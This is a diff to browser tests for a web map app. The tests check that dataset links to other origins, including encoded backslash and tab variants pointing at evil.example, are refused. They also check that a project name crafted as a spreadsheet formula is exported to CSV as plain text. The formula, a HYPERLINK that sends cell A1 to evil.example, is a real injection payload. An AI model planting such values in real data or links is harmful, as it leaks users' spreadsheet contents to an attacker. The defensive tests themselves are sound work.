@@ -1,5 +1,7 @@
 // A dataset other than the forum's: opened by link or from a file, checked with the same schema,
 // and any problem named by record and field instead of a blank page.
+import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import { rawBuiltAtlas } from '../fixtures/builtAtlas';
 import { expect, test } from './atlasPage';
 
@@ -42,8 +44,44 @@ test('a dataset file picked from the computer replaces the map, list and filters
   await expect(page.locator('#project-list li')).toHaveCount(smaller.projects.features.length);
 });
 
-test('a dataset link to another origin is refused with a notice', async ({ atlas, page }) => {
-  await atlas.open('lang=en&data=https%3A%2F%2Fexample.com%2Fatlas.json');
-  await expect(page.getByRole('status').filter({ hasText: 'data=https://example.com/atlas.json' })).toBeVisible();
+/** Links to another origin, as a crafted link would spell them (the query string's encoding). */
+const OTHER_ORIGIN_LINKS = [
+  { query: 'https%3A%2F%2Fexample.com%2Fatlas.json', value: 'https://example.com/atlas.json' },
+  { query: '%5C%5Cevil.example/a.json', value: '\\\\evil.example/a.json' },
+  { query: '/%5Cevil.example/a.json', value: '/\\evil.example/a.json' },
+  { query: '%09//evil.example/a.json', value: '\t//evil.example/a.json' },
+];
+
+test('a dataset link to another origin is refused with a notice, however it is spelled, and nothing is requested from there', async ({ atlas, page }) => {
+  for (const { query, value } of OTHER_ORIGIN_LINKS) {
+    await atlas.open(`lang=en&data=${query}`);
+    const alert = page.getByRole('alert');
+    await expect(alert).toContainText('Only datasets on this site can be opened');
+    await expect(alert).toContainText(value.trim());
+    expect(atlas.foreignRequests, `requests to another origin after data=${query}`).toEqual([]);
+  }
+  await page.getByRole('button', { name: 'Back to the forum dataset' }).click();
   await atlas.waitForMap();
+  expect(atlas.searchParams().get('data')).toBeNull();
+});
+
+test('a dropped dataset whose project name would run as a formula exports it to CSV as plain text', async ({ atlas, page }) => {
+  const crafted = rawBuiltAtlas();
+  const shelek = crafted.projects.features.find((feature) => feature.id === 'shelek-wind-60')!;
+  // papaparse's escapeFormulae alone misses a cell that starts with = and runs over several lines.
+  const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")\nShelek 60 MW wind farm';
+  shelek.properties.name.en = name;
+  await atlas.open('lang=en');
+  await atlas.waitForMap();
+  await page.getByLabel('Open a dataset…').setInputFiles({ name: 'formula.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(crafted)) });
+  await expect(page.getByRole('status').filter({ hasText: 'formula.json' })).toBeVisible();
+  await atlas.waitForMap();
+  await page.getByRole('button', { name: 'Statistics' }).click();
+  const downloading = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'CSV (one row per figure)' }).click();
+  const download = await downloading;
+  const csv = readFileSync(await download.path(), 'utf8');
+  const rows = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
+  const row = rows.find((candidate) => candidate.project_id === 'shelek-wind-60');
+  expect(row?.name_en).toBe(`'${name}`);
 });
